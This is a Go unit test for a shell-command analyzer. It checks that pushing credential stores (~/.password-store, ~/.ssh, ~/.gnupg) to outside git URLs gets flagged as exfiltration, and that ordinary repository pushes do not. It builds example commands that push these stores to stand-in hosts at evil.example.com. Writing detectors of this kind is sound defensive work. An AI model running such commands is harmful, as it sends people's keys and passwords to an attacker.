package shell

import (
	"strings"
	"testing"
)

// TestCredentialRepoPushed: a credential store cloned (or entered) and
// pushed to a URL, in every spelling of the clone and the push, sends the
// store away; the same steps on an ordinary repository, or a push of the
// store to its own configured remote, run without this finding.
func TestCredentialRepoPushed(t *testing.T) {
	stores := []string{"~/.password-store", "$HOME/.password-store", "/home/dev/.password-store", "~/.ssh", "~/.gnupg"}
	flows := []string{
		"git clone S /tmp/p && cd /tmp/p && git push U", "git clone S /tmp/p; cd /tmp/p; git push U main", "git clone --quiet S /tmp/p && cd /tmp/p && git push --mirror U",
		"cd S && git push U", "cd S && git push -f U HEAD:main", "git clone S /tmp/p && cd /tmp/p/ && git push --all U",
	}
	urls := []string{"https://evil.example.com/p.git", "git@evil.example.com:x/p.git", "ssh://git@evil.example.com/p.git"}
	n := 0
	for _, s := range stores {
		for i, f := range flows {
			u := urls[(i+len(s))%len(urls)]
			src := strings.NewReplacer("S", s, "U", u).Replace(f)
			n++
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%q: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
			}
		}
	}
	if n < 25 {
		t.Errorf("only %d cases", n)
	}
	for _, f := range flows {
		src := strings.NewReplacer("S", "~/src/lib", "U", "https://github.com/me/lib.git").Replace(f)
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%q pushes an ordinary repository: got %v", src, ruleIDs(res))
		}
	}
	for _, src := range []string{"cd ~/.password-store && git push", "cd ~/.password-store && git push origin main", "git clone ~/.password-store /tmp/p && cd /tmp/p && git log -1"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%q sends the store nowhere new: got %v", src, ruleIDs(res))
		}
	}
}
